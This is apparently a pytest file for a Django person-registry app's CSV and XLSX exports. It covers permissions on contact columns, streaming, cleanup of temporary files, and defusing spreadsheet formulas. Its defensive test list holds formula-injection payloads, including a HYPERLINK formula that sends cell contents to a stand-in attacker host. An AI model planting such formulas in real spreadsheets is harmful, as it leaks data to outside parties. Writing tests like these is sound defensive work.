"""Exports of the person registry: what leaves, for whom, and in what safe shape."""

from __future__ import annotations

import re
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from django.contrib.auth.models import AnonymousUser
from django.db import connection
from django.http import FileResponse, StreamingHttpResponse
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from pytest_django import DjangoAssertNumQueries

from kalan.core.models import User
from kalan.core.render.spreadsheets import CellValue, ExportTable, export_response, spreadsheet_safe
from kalan.people.exports import person_export_columns
from kalan.people.models import Person
from tests.factories import PersonFactory, UnitFactory, place, rank
from tests.spreadsheets import (
    PERSON_HEADERS,
    body,
    csv_rows,
    user_with,
    xlsx_cells,
    xlsx_has_formulas,
    xlsx_values,
)

HEADERS = PERSON_HEADERS
CONTACTS = ["Téléphone", "Courriel"]


def export_url(fmt: str) -> str:
    return reverse("person_export", kwargs={"fmt": fmt})


@pytest.fixture
def exporter(db: None) -> User:
    """May export lists, may not see contacts."""
    return user_with("export_persons")


@pytest.fixture
def exporter_with_contacts(db: None) -> User:
    return user_with("export_persons", "view_contacts", username="exporter_with_contacts")


@pytest.fixture
def maiga(db: None) -> Person:
    unit = UnitFactory(name="Brigade territoriale de Sévaré")
    return PersonFactory(
        last_name="Maïga",
        first_names="Aminata",
        sex=Person.Sex.FEMALE,
        rank=rank("Gendarmerie", "Capitaine"),
        service_number="G-1234",
        unit=unit,
        phone="+223 70 12 34 56",
        email="a.maiga@example.org",
    )


def test_the_xlsx_export_lists_each_person_with_corps_rank_unit_place_and_region(
    exporter: User, client_for: Callable[[User], Client], maiga: Person
) -> None:
    PersonFactory(last_name="Diallo", first_names="Oumar", sex="M", corps=None, unit=None)
    rows = xlsx_values(body(client_for(exporter).get(export_url("xlsx"))))
    assert rows[0] == HEADERS
    assert rows[1] == [1, "Diallo", "Oumar", "homme", None, None, None, None, None, None]
    assert rows[2] == [
        2,
        "Maïga",
        "Aminata",
        "femme",
        "Gendarmerie",
        "Capitaine",
        "G-1234",
        "Brigade territoriale de Sévaré",
        "Sévaré",
        "Mopti",
    ]


def test_the_csv_export_is_utf8_with_a_bom_and_semicolons_and_holds_the_same_rows(
    exporter: User, client_for: Callable[[User], Client], maiga: Person
) -> None:
    response = client_for(exporter).get(export_url("csv"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    data = body(response)
    assert data.splitlines()[0] == "\ufeff".encode() + ";".join(HEADERS).encode()
    assert csv_rows(data)[1] == [
        "1",
        "Maïga",
        "Aminata",
        "femme",
        "Gendarmerie",
        "Capitaine",
        "G-1234",
        "Brigade territoriale de Sévaré",
        "Sévaré",
        "Mopti",
    ]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_contacts_leave_only_with_the_permission_to_see_them(
    fmt: str,
    exporter: User,
    exporter_with_contacts: User,
    administrator: User,
    client_for: Callable[[User], Client],
    maiga: Person,
) -> None:
    without = body(client_for(exporter).get(export_url(fmt)))
    assert b"70 12 34 56" not in without and b"a.maiga@example.org" not in without
    for user in (exporter_with_contacts, administrator):
        data = body(client_for(user).get(export_url(fmt)))
        rows = xlsx_values(data) if fmt == "xlsx" else csv_rows(data)
        assert rows[0] == HEADERS + CONTACTS
        # The leading + of a phone number would start a formula: it is neutralised.
        assert rows[1][-2:] == ["'+223 70 12 34 56", "a.maiga@example.org"]


def test_one_function_decides_the_columns_from_the_user(
    exporter: User, exporter_with_contacts: User, administrator: User
) -> None:
    base = [column.header for column in person_export_columns(exporter)]
    assert base == HEADERS
    for user in (exporter_with_contacts, administrator):
        assert [column.header for column in person_export_columns(user)] == base + CONTACTS
    assert [column.header for column in person_export_columns(AnonymousUser())] == base


def test_an_export_reads_no_contact_from_the_database_for_a_user_who_may_not_see_them(
    exporter: User, client_for: Callable[[User], Client], maiga: Person
) -> None:
    client = client_for(exporter)
    with CaptureQueriesContext(connection) as queries:
        body(client.get(export_url("csv")))
    person_query = next(q["sql"] for q in queries.captured_queries if "first_names" in q["sql"])
    assert "phone" not in person_query and "email" not in person_query


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")',
    "+1+2",
    "-2+3",
    "@SUM(1+1)",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_name_or_unit_that_would_run_as_a_formula_is_exported_as_text(
    formula: str, exporter: User, client_for: Callable[[User], Client]
) -> None:
    PersonFactory(
        last_name=formula, first_names=formula, unit=UnitFactory(name=f"{formula} brigade")
    )
    client = client_for(exporter)

    xlsx = body(client.get(export_url("xlsx")))
    assert not xlsx_has_formulas(xlsx)
    cells = xlsx_cells(xlsx)[1]
    for cell in (cells[1], cells[2], cells[7]):
        assert cell.data_type == "s"
        assert isinstance(cell.value, str) and cell.value.startswith("'")
    # Without lxml, XML turns a lone CR into LF; with it the CR is kept (escaped).
    assert cells[1].value in {"'" + formula, "'" + formula.replace("\r", "\n")}

    row = csv_rows(body(client.get(export_url("csv"))))[1]
    assert row[1] == row[2] == "'" + formula
    assert row[7] == f"'{formula} brigade"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("Traoré", "Traoré"),
        ("Jean-Pierre", "Jean-Pierre"),  # a hyphen inside is no formula
        ("", ""),
        ("=1+1", "'=1+1"),
        (" -1", "' -1"),
        ("\t x", "'\t x"),
        ("Dia\x00llo\x1b", "Diallo"),  # what XML cannot carry is dropped
        (12, 12),
        (-3, -3),  # numbers stay numbers
        (1.5, 1.5),
        (None, None),
    ],
)
def test_spreadsheet_safe(value: str | int | float | None, expected: object) -> None:
    assert spreadsheet_safe(value) == expected


@pytest.mark.parametrize(
    ("fmt", "kind", "content_type"),
    [
        ("csv", StreamingHttpResponse, "text/csv; charset=utf-8"),
        (
            "xlsx",
            FileResponse,
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ),
    ],
)
def test_the_export_streams_an_attachment_named_without_personal_data(
    fmt: str,
    kind: type,
    content_type: str,
    exporter: User,
    client_for: Callable[[User], Client],
    maiga: Person,
) -> None:
    response = client_for(exporter).get(export_url(fmt), {"q": "maïga"})
    assert response.status_code == 200
    assert isinstance(response, kind)
    assert response.streaming is True
    assert response["Content-Type"] == content_type
    assert re.fullmatch(
        rf'attachment; filename="kalan-personnes-\d{{4}}-\d{{2}}-\d{{2}}\.{fmt}"',
        response["Content-Disposition"],
    )
    body(response)


def test_the_export_honours_the_search_of_the_person_list(
    exporter: User, client_for: Callable[[User], Client]
) -> None:
    PersonFactory(last_name="Koné", first_names="Awa", service_number="G-777")
    PersonFactory(last_name="Diallo", first_names="Oumar")
    client = client_for(exporter)
    by_name = csv_rows(body(client.get(export_url("csv"), {"q": "kon"})))
    assert [row[1] for row in by_name[1:]] == ["Koné"]
    by_number = xlsx_values(body(client.get(export_url("xlsx"), {"q": "g-777"})))
    assert [row[1] for row in by_number[1:]] == ["Koné"]
    nobody = csv_rows(body(client.get(export_url("csv"), {"q": "personne"})))
    assert nobody == [HEADERS]


def test_a_person_merged_into_another_is_not_exported(
    exporter: User, client_for: Callable[[User], Client], maiga: Person
) -> None:
    PersonFactory(last_name="Maïga", first_names="Aminatou", merged_into=maiga)
    rows = csv_rows(body(client_for(exporter).get(export_url("csv"))))
    assert [row[2] for row in rows[1:]] == ["Aminata"]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_it_refuses_users_without_the_export_permission(
    fmt: str,
    trainer: User,
    communication_officer: User,
    client_for: Callable[[User], Client],
    maiga: Person,
) -> None:
    # The trainer sees contacts in their sessions but takes no list out of Kalan.
    for user in (trainer, communication_officer, user_with("view_persons", "view_contacts")):
        response = client_for(user).get(export_url(fmt))
        assert response.status_code == 403, user.role
        assert b"Ma\xc3\xafga" not in response.content


def test_it_sends_anonymous_visitors_to_the_login_page(client: Client, maiga: Person) -> None:
    response = client.get(export_url("csv"))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


def test_it_answers_get_only(exporter: User, client_for: Callable[[User], Client]) -> None:
    assert client_for(exporter).post(export_url("csv")).status_code == 405


def test_an_unknown_format_is_404(exporter: User, client_for: Callable[[User], Client]) -> None:
    assert client_for(exporter).get("/personnes/export.xls").status_code == 404


def test_headers_come_in_the_language_of_the_interface_even_when_streamed(
    exporter: User, client_for: Callable[[User], Client], maiga: Person
) -> None:
    client = client_for(exporter)
    client.cookies["django_language"] = "en"
    header = csv_rows(body(client.get(export_url("csv"))))[0]
    assert "Rank" in header and "Grade" not in header


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_queries_of_an_export_do_not_grow_with_its_rows(
    fmt: str,
    exporter: User,
    client_for: Callable[[User], Client],
    django_assert_max_num_queries: DjangoAssertNumQueries,
) -> None:
    unit = UnitFactory(place=place("Mopti"))
    client = client_for(exporter)
    PersonFactory.create_batch(5, unit=unit)
    with CaptureQueriesContext(connection) as small:
        assert len(csv_or_xlsx_rows(fmt, body(client.get(export_url(fmt))))) == 6
    PersonFactory.create_batch(45, unit=unit)
    with django_assert_max_num_queries(len(small.captured_queries)):
        assert len(csv_or_xlsx_rows(fmt, body(client.get(export_url(fmt))))) == 51


def csv_or_xlsx_rows(fmt: str, data: bytes) -> list[list[object]]:
    return list(xlsx_values(data) if fmt == "xlsx" else csv_rows(data))


def test_the_person_list_links_to_the_export_with_its_search(
    programme_officer: User, client_for: Callable[[User], Client]
) -> None:
    page = client_for(programme_officer).get(reverse("person_list"), {"q": "Maïga"})
    assert f'href="{export_url("xlsx")}?q=Ma%C3%AFga"' in page.content.decode()
    assert f'href="{export_url("csv")}?q=Ma%C3%AFga"' in page.content.decode()
    reader = user_with("view_persons", username="reader")
    page = client_for(reader).get(reverse("person_list"))
    assert page.status_code == 200
    assert export_url("csv") not in page.content.decode()


def test_an_xlsx_export_that_fails_half_way_leaves_no_file_behind(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))

    def rows() -> Iterator[list[CellValue]]:
        yield [1, "Maïga", "Aminata"]
        raise RuntimeError("the database went away")

    table = ExportTable(title="Personnes", headers=["N°", "Nom", "Prénoms"], rows=rows())
    with pytest.raises(RuntimeError):
        export_response(table=table, fmt="xlsx", filename="kalan-personnes.xlsx")
    assert list(tmp_path.iterdir()) == []


def test_an_xlsx_export_leaves_no_file_behind_once_sent(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    table = ExportTable(title="Personnes", headers=["Nom"], rows=[["Maïga"]])
    response = export_response(table=table, fmt="xlsx", filename="kalan-personnes.xlsx")
    assert xlsx_values(body(response)) == [["Nom"], ["Maïga"]]
    # openpyxl's spool is gone already; the served file is anonymous (never named in the folder).
    assert list(tmp_path.iterdir()) == []
    response.file_to_stream.close()  # what response.close() does once the last byte is out
